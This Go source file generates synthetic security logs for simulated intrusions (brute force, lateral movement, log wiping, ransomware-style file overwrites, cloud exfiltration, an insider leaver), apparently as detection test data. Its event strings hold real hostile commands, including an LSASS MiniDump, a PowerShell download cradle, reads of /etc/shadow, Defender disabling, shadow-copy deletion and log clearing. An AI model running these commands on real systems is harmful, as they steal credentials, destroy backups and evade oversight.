package synth

import "strings"

// The attack scenarios: the four phases of an intrusion from outside, and the leaver.

// far is a sign-in from where the company has nobody.
func far(c *campaign, code, risk string) signIn {
	return signIn{code: code, interactive: true, client: "Browser", town: c.cast.town, policy: "notApplied", risk: risk}
}

// bruteForce guesses passwords at every door, ten and more a minute, until one is right, and stays.
func (w *window) bruteForce(c *campaign) {
	r, t0, t := w.r, w.p.tenant, c.start
	fw, rds := t0.firewall, c.cast.rds
	from := c.cast.address
	w.phase(phReconnaissance)
	for range w.some(8, 20) {
		f := flow{from: from, to: "192.0.2." + string(appendInt(nil, []int{10, 20, 21, 22}[r.n(4)])), fromPort: r.between(1025, 65535), toPort: scannedPorts[r.n(len(scannedPorts))], proto: 6}
		w.iptables(t, fw, "eth0", "", "FW-DROP ", &f)
		if r.chance(0.4) {
			h := t0.webs[r.n(len(t0.webs))]
			f.to, f.eni, f.drop, f.packets, f.bytes = h.ip, h.eni, true, 1, 44
			w.vpcFlow(t, &f)
		}
		t += r.micros(0.2, 6)
	}

	w.phase(phBruteForce)
	gap := r.micros(1.2, 4.5)
	for n := max(24, w.some(60, 140)); n > 0; n-- {
		u := c.cast.victim
		if r.chance(0.5) {
			u = t0.users[r.zipf(min(12, len(t0.users)))]
		}
		w.as(u, from)
		w.v.port, w.v.pid = r.between(1025, 65535), r.between(1200, 64000)
		switch r.n(4) {
		case 0:
			w.iptables(t-r.micros(0.1, 0.3), fw, "eth0", "eth2", "FW-ACCEPT ", &flow{from: from, to: vpnIP, fromPort: w.v.port, toPort: 1194, proto: 17})
			w.v.s = [8]string{u.login, "invalid credentials"}
			w.vpn(t, &vpnAuthBad)
		case 1:
			code := "50126"
			if n%17 == 0 {
				code = "50053"
			}
			w.entra(t, &apps[r.zipf(3)], far(c, code, "medium"))
		case 2:
			w.sshFlow(t-r.micros(0.1, 0.3), t0.bastion, from, w.v.port, r.micros(2, 5), 1200, false)
			w.badPassword(t, t0.bastion)
		default:
			w.iptables(t-r.micros(0.05, 0.1), fw, "eth0", "eth1", "DNAT ", &flow{from: from, to: rds.ip, fromPort: w.v.port, toPort: 3389, proto: 6})
			w.failedLogon(t, rds, u.login, true, 3, "kali")
		}
		t += gap/2 + int64(r.float()*float64(gap))
	}

	w.phase(phValidAccount)
	u := c.cast.victim
	session := string(r.hex(nil, 16, "0123456789abcdef"))
	t = w.vpnFrom(t, u, from, session)
	w.as(u, from)
	w.entra(t, &apps[4], far(c, "0", "high"))
	w.as(u, u.poolIP)
	id := w.logonID(u, rds, w.daysSinceStart(t), 9)
	t += r.micros(20, 90)
	w.remoteDesktop(t, rds, id)
	w.as(u, from)
	w.v.port = r.between(1025, 65535)
	port := w.v.port
	t += r.micros(30, 200)
	w.sshFlow(t-r.micros(0.1, 0.2), t0.bastion, from, port, 900*second, 40_000, false)
	s := w.login(t, t0.bastion, port, true)
	t += r.micros(10, 40)
	for _, command := range []string{"/usr/bin/id", "/usr/bin/uname -a", "/usr/bin/cat /etc/passwd"} {
		w.run(t, &s, "/home/"+u.login, strings.Fields(command)...)
		t += r.micros(3, 15)
	}

	w.phase(phCreateAccount)
	w.addLinuxUser(t, &s, "svchelp", 1337)
	t += r.micros(20, 60)
	w.logout(t, &s)
	t += r.micros(30, 120)
	w.as(u, u.poolIP)
	w.addWindowsUser(t, t0.dcs[0], id, "svchelp", "Service Help", domainSID+"-"+string(appendInt(nil, 9000+c.number)))
	w.phase(phRemoteTool)
	t += r.micros(60, 300)
	w.process(t, rds, id, `C:\Windows\System32\msiexec.exe`, `msiexec /i C:\Users\Public\remoteperch.msi /qn`, `C:\Windows\System32\cmd.exe`, true)
	w.v.s = [8]string{`\PerchUpdate`, `C:\ProgramData\RemotePerch\perch.exe`, "--quiet", 7: id}
	w.windows(t+r.micros(1, 2), rds, winTask)
	w.newService(t+r.micros(2, 6), rds, id, "RemotePerch Agent", `"C:\ProgramData\RemotePerch\perch.exe" --service`)
	w.v.s = [8]string{session, "peer closed"}
	w.v.n[0], w.v.n[1], w.v.n[2] = 900, 40_000_000, 9_000_000
	w.as(u, from)
	w.v.ip2 = u.poolIP
	t += r.micros(60, 600)
	w.vpn(t, &vpnDown)
}

// vpnFrom is the tunnel of somebody who knows the password.
func (w *window) vpnFrom(t int64, u *user, from, session string) int64 {
	r := w.r
	w.as(u, from)
	w.v.port = r.between(1025, 65535)
	w.iptables(t, w.p.tenant.firewall, "eth0", "eth2", "FW-ACCEPT ", &flow{from: from, to: vpnIP, fromPort: w.v.port, toPort: 1194, proto: 17})
	w.vpn(t+r.micros(0.1, 0.3), &vpnStart)
	t += r.micros(2, 6)
	w.vpn(t, &vpnAuthOK)
	w.v.s[0] = "DESKTOP-" + string(r.hex(nil, 7, "0123456789ABCDEF"))
	w.vpn(t+r.micros(0.1, 0.2), &vpnHome)
	t += r.micros(0.3, 0.9)
	w.v.s[0], w.v.ip2 = session, u.poolIP
	w.vpn(t, &vpnUp)
	return t + r.micros(5, 30)
}

// remoteDesktop is an interactive logon over RDP by the user of w.v from w.v.ip.
func (w *window) remoteDesktop(t int64, h *host, id string) {
	w.v.port = w.port()
	w.iptables(t-w.r.micros(0.5, 1), w.p.tenant.firewall, "tun1", "eth1", "FW-ACCEPT ", &flow{from: w.v.ip, to: h.ip, fromPort: w.v.port, toPort: 3389, proto: 6})
	w.windows(t-30_000, w.p.tenant.dcs[0], winTGT)
	w.v.s[7], w.v.n[0] = id, 10
	w.windows(t, h, winLogonLocal)
	w.windows(t+500, h, winSpecial)
}

// addLinuxUser makes an account with sudo.
func (w *window) addLinuxUser(t int64, s *shellSession, name string, uid int64) {
	r := w.r
	w.sudo(t, s, "/root", "/usr/sbin/useradd", "-m", "-s", "/bin/bash", name)
	w.v.s[0], w.v.n[2] = name, uid
	pid := r.between(2000, 64000)
	for i := range userAdded {
		w.auth(t+10_000, s.h, "useradd", pid, &userAdded[i])
	}
	w.auth(t+12_000, s.h, "useradd", pid, &userNew)
	w.audit(t+12_000, s.h).record("ADD_USER", &auditAddUser, nil)
	t += r.micros(2, 9)
	w.sudo(t, s, "/root", "/usr/sbin/usermod", "-aG", "sudo", name)
	w.v.s[0] = name
	for i := range userMod {
		w.auth(t+10_000, s.h, "usermod", pid+9, &userMod[i])
	}
	w.audit(t+12_000, s.h).record("USER_MGMT", &auditAddGroup, nil)
	t += r.micros(2, 9)
	w.auth(t, s.h, "passwd", pid+20, &passwd)
	w.audit(t, s.h).record("USER_CHAUTHTOK", &auditChauthok, nil)
}

// addWindowsUser makes an account and puts it into groups.
func (w *window) addWindowsUser(t int64, dc *host, id, name, display, sid string) {
	set := func() { w.v.s = [8]string{name, sid, display, "Domain Admins", 7: id} }
	for i, e := range []*winEvent{winUserCreated, winUserEnabled, winResetPass, winGlobalGroup} {
		set()
		w.windows(t+int64(i)*90_000, dc, e)
	}
	set()
	w.v.s[3] = "Administrators"
	w.windows(t+w.r.micros(1, 20), dc, winLocalGroup)
	set()
	w.v.s[2] = string(appendISO(nil, t, ' '))
	w.windows(t+w.r.micros(20, 30), dc, winUserChanged)
}

// newService installs a service.
func (w *window) newService(t int64, h *host, id, name, image string) {
	w.v.s = [8]string{name, image, "auto start", 7: id}
	w.windows(t, h, winServiceSec)
	w.v.s = [8]string{name, image, "auto start", 7: id}
	w.windows(t+4_000, h, winServiceNew)
	w.v.s[0], w.v.s[1] = name, "running"
	w.windows(t+200_000, h, winServiceState)
}

// lateralMovement takes passwords from memory and goes from host to host.
func (w *window) lateralMovement(c *campaign) {
	r, t0, t := w.r, w.p.tenant, c.start
	u, rds := c.cast.victim, c.cast.rds
	session := string(r.hex(nil, 16, "0123456789abcdef"))
	w.phase(phValidAccount)
	t = w.vpnFrom(t, u, c.cast.address, session)
	w.as(u, u.poolIP)
	id := w.logonID(u, rds, w.daysSinceStart(t), 9)
	w.remoteDesktop(t, rds, id)
	w.phase(phCredentials)
	t += r.micros(40, 200)
	for _, command := range [][2]string{
		{`C:\Windows\System32\whoami.exe`, `whoami /all`}, {`C:\Windows\System32\net.exe`, `net group "Domain Admins" /domain`},
		{`C:\Windows\System32\nltest.exe`, `nltest /dclist:umbrin.example`},
		{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\d.bin full`},
	} {
		w.process(t, rds, id, command[0], command[1], `C:\Windows\System32\cmd.exe`, true)
		t += r.micros(4, 40)
	}
	w.v.s[0], w.v.s[1] = `IEX (New-Object Net.WebClient).DownloadString('http://`+c.cast.address+`/p.ps1'); Invoke-Dump`, ""
	w.windows(t, rds, winPowerShell)

	w.phase(phLateral)
	targets := append(append([]*host{}, t0.members...), t0.files...)
	for range w.some(3, 7) {
		targets = append(targets, t0.users[r.n(len(t0.users))].ws)
	}
	for _, h := range targets {
		if h == rds {
			continue
		}
		t += r.micros(3, 45)
		f := flow{from: rds.ip, to: h.ip, fromPort: w.port(), toPort: 445, proto: 6}
		w.iptables(t-30_000, t0.firewall, "eth1", "eth1", "FW-ACCEPT ", &f)
		w.as(u, u.poolIP)
		w.v.s = [8]string{u.login, h.fqdn, `C:\Windows\System32\cmd.exe`, 7: id}
		w.windows(t-20_000, rds, winExplicit)
		w.v.ip = rds.ip
		remote := w.logonID(u, h, w.daysSinceStart(t), 11)
		w.networkLogon(t, h, true, remote)
		w.v.s[7] = remote
		w.windows(t+500, h, winSpecial)
		for i, share := range []string{`\\*\ADMIN$`, `\\*\C$`, `\\*\IPC$`} {
			w.shareOpen(t+int64(i+1)*40_000, h, share, `\??\C:\Windows`, remote, f.fromPort)
		}
		w.v.s = [8]string{`\\*\ADMIN$`, `\??\C:\Windows`, `perchsvc.exe`, 7: remote}
		w.windows(t+150_000, h, winShareFile)
		if r.chance(0.7) {
			w.newService(t+r.micros(0.3, 1), h, remote, "PERCHSVC", `%SystemRoot%\perchsvc.exe`)
			w.process(t+r.micros(1.1, 2), h, "0x3e7", `C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami ^> C:\Windows\Temp\o.txt`, `C:\Windows\perchsvc.exe`, true)
		}
		w.logoff(t+r.micros(5, 30), h, 3, remote)
	}
	w.phase(phLateralSSH)
	for _, h := range t0.apps {
		t += r.micros(4, 30)
		w.as(u, t0.bastion.ip)
		port := w.port()
		w.sshFlow(t-r.micros(0.1, 0.2), h, t0.bastion.ip, port, 40*second, 9000, false)
		s := w.login(t, h, port, true)
		w.sudo(t+r.micros(2, 5), &s, "/home/"+u.login, "/usr/bin/cat", "/etc/shadow")
		w.logout(t+r.micros(8, 20), &s)
	}
}

// logClearing turns the guards off, deletes the ways back, and wipes the tracks.
func (w *window) logClearing(c *campaign) {
	r, t0, t := w.r, w.p.tenant, c.start
	u := c.cast.victim
	for _, h := range append([]*host{c.cast.rds, t0.dcs[0]}, t0.files...) {
		w.as(u, c.cast.rds.ip)
		id := w.logonID(u, h, w.daysSinceStart(t), 12)
		w.phase(phDisableTools)
		w.v.s[0], w.v.s[1] = `Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\`, ""
		w.windows(t, h, winPowerShell)
		w.windows(t+r.micros(0.5, 2), h, winDefenderOff)
		w.v.s = [8]string{"%%8448, %%8450", 7: id}
		w.windows(t+r.micros(2, 4), h, winAuditPolicy)
		w.phase(phDeleteBackups)
		t += r.micros(5, 20)
		w.process(t, h, id, `C:\Windows\System32\vssadmin.exe`, `vssadmin delete shadows /all /quiet`, `C:\Windows\System32\cmd.exe`, true)
		w.process(t+r.micros(1, 3), h, id, `C:\Windows\System32\wbadmin.exe`, `wbadmin delete catalog -quiet`, `C:\Windows\System32\cmd.exe`, true)
		w.phase(phClearLogs)
		t += r.micros(5, 30)
		for _, log := range []string{"System", "Application", "Security"} {
			w.process(t, h, id, `C:\Windows\System32\wevtutil.exe`, `wevtutil cl `+log, `C:\Windows\System32\cmd.exe`, true)
			w.v.s = [8]string{log, "", 7: id}
			if log == "Security" {
				w.windows(t+60_000, h, winLogCleared)
			} else {
				w.windows(t+60_000, h, winSysCleared)
			}
			t += r.micros(0.5, 3)
		}
	}
	w.as(u, c.cast.address)
	port := r.between(1025, 65535)
	w.sshFlow(t, t0.bastion, c.cast.address, port, 60*second, 4000, false)
	s := w.login(t, t0.bastion, port, true)
	for _, command := range []string{"/usr/sbin/auditctl -D", "/usr/bin/rm -rf /var/log/audit", "/usr/bin/truncate -s 0 /var/log/auth.log", "/usr/bin/journalctl --vacuum-time=1s"} {
		t += r.micros(3, 12)
		w.sudo(t, &s, "/root", strings.Fields(command)...)
	}
	w.v.s[7] = "exec"
	w.audit(t, t0.bastion).record("CONFIG_CHANGE", &auditConfig, nil)
	w.logout(t+r.micros(3, 9), &s)
	w.phase(phDisableTools)
	w.as(u, c.cast.address)
	w.cloud(t+r.micros(10, 60), callStopTrail, "aws-cli/2.15.1 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024", "")
}

// massFileAccess overwrites a share, a hundred files and more in five seconds.
func (w *window) massFileAccess(c *campaign) {
	r, t0, t := w.r, w.p.tenant, c.start
	u, fs := c.cast.victim, t0.files[c.number%len(t0.files)]
	w.phase(phEncrypt)
	w.as(u, c.cast.rds.ip)
	id := w.logonID(u, fs, w.daysSinceStart(t), 13)
	w.networkLogon(t, fs, true, id)
	port := w.v.port
	w.iptables(t-50_000, t0.firewall, "eth1", "eth1", "FW-ACCEPT ", &flow{from: w.v.ip, to: fs.ip, fromPort: port, toPort: 445, proto: 6})
	w.shareOpen(t+20_000, fs, `\\*\share`, `\??\D:\share`, id, port)
	t += 100_000
	for range max(110, w.some(130, 260)) {
		dept := r.n(len(departments))
		path := `D:\share\` + sharePath(r, dept)
		t += r.micros(0.005, 0.06)
		w.fileAccess(t, fs, id, path, true)
		if r.chance(0.25) {
			w.fileAccess(t+1000, fs, id, path+".perch", true)
		}
		if r.chance(0.25) {
			w.v.s[7] = id
			w.windows(t+2000, fs, winFileDeleted)
		}
	}
	w.fileAccess(t+r.micros(0.5, 1), fs, id, `D:\share\READ_ME_TO_RESTORE.txt`, true)
	w.logoff(t+r.micros(1, 9), fs, 3, id)
}

// exfiltration reads the cloud's buckets with a stolen role and sends far more out than usual.
func (w *window) exfiltration(c *campaign) {
	r, t0, t := w.r, w.p.tenant, c.start
	u := c.cast.victim
	agent := "aws-cli/2.15.1 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024"
	w.as(u, c.cast.address)
	w.phase(phValidAccount)
	w.entra(t, &apps[4], far(c, "0", "high"))
	w.cloud(t+r.micros(2, 5), callAssumeSAML, "aws-internal/3", "")
	w.phase(phDiscovery)
	t += r.micros(20, 60)
	for _, k := range []*apiCall{cloudCalls[2], callListBuckets, callListUsers, cloudCalls[8], cloudCalls[0], cloudCalls[16]} {
		w.v.s[0] = t0.buckets[0]
		w.cloud(t, k, agent, "")
		t += r.micros(1, 9)
	}
	for _, b := range t0.buckets {
		w.v.s[0] = b
		code := ""
		if r.chance(0.3) {
			code = "AccessDenied"
		}
		w.cloud(t, callListObjects, agent, code)
		t += r.micros(0.5, 4)
	}
	w.phase(phAccessKey)
	w.v.s[4] = "svc-deploy"
	w.cloud(t, callCreateKey, agent, "")
	w.phase(phExfiltration)
	for n := range w.some(50, 110) {
		t += r.micros(0.2, 3)
		w.v.s[0], w.v.s[4] = "umbrin-customer-data", "crm/export/2025/part-"+string(appendInt(nil, n))+".parquet"
		w.cloud(t, callGetObject, agent, "")
	}
	w.cloud(t+r.micros(5, 20), callPublic, agent, "")
	db := t0.apps[len(t0.apps)-1]
	for range w.some(20, 40) {
		t += r.micros(5, 60)
		f := flow{from: db.ip, to: c.cast.address, fromPort: w.port(), toPort: 443, proto: 6, packets: r.logUniform(20_000, 400_000), duration: r.micros(30, 60), eni: db.eni}
		f.bytes = f.packets * 1420
		w.vpcFlow(t, &f)
		if r.chance(0.5) {
			f = flow{from: t0.files[0].ip, to: c.cast.address, fromPort: w.port(), toPort: 443, proto: 6}
			w.iptables(t, t0.firewall, "eth1", "eth0", "FW-ACCEPT ", &f)
		}
	}
}

// leaverAtNight is somebody who goes soon: from home, at night, in other people's folders.
func (w *window) leaverAtNight(c *campaign) {
	r, t0, t := w.r, w.p.tenant, c.start
	u, fs := c.cast.insider, t0.files[c.number%len(t0.files)]
	session := string(r.hex(nil, 16, "0123456789abcdef"))
	w.phase(phValidAccount)
	t = w.vpnFrom(t, u, u.homeIP, session)
	begin := t
	w.as(u, u.poolIP)
	id := w.logonID(u, fs, w.daysSinceStart(t), 14)
	w.networkLogon(t, fs, false, id)
	port := w.v.port
	w.shareOpen(t+30_000, fs, `\\*\share`, `\??\D:\share`, id, port)
	w.phase(phCollection)
	for range w.some(50, 110) {
		t += r.micros(0.4, 20)
		dept := r.n(len(departments))
		w.v.s = [8]string{`\\*\share`, `\??\D:\share`, sharePath(r, dept), 7: id}
		w.v.port = port
		if dept != u.deptID && r.chance(0.5) {
			w.windows(t, fs, winShareDenied)
			continue
		}
		path := w.v.s[2]
		w.windows(t, fs, winShareFile)
		w.fileAccess(t+2000, fs, id, `D:\share\`+path, false)
	}
	w.phase(phExfiltration)
	w.as(u, u.homeIP)
	w.entra(t+r.micros(5, 20), &apps[3], signIn{code: "0", interactive: true, client: "Browser", town: u.town, policy: "notApplied", risk: "none"})
	for range r.between(6, 14) {
		t += r.micros(5, 90)
		w.iptables(t, t0.firewall, "tun1", "eth0", "FW-ACCEPT ", &flow{from: u.poolIP, to: siteAddress(4, 1), fromPort: w.port(), toPort: 443, proto: 6})
	}
	w.phase(phClearLogs)
	w.as(u, u.poolIP)
	t += r.micros(30, 200)
	w.process(t, u.ws, id, `C:\Windows\System32\wevtutil.exe`, `wevtutil cl Security`, `C:\Windows\System32\cmd.exe`, false)
	w.process(t+r.micros(3, 9), u.ws, id, `C:\Windows\System32\cmd.exe`, `cmd.exe /c del /q C:\ProgramData\IT\audit\*.log`, `C:\Windows\explorer.exe`, false)
	w.logoff(t+r.micros(20, 60), fs, 3, id)
	t += r.micros(30, 90)
	w.as(u, u.homeIP)
	w.v.ip2, w.v.s[0], w.v.s[1] = u.poolIP, session, "user request"
	w.v.n[0], w.v.n[1], w.v.n[2] = (t-begin)/second, r.logUniform(5e7, 4e8), r.logUniform(3e9, 2e10)
	w.vpn(t, &vpnDown)
}
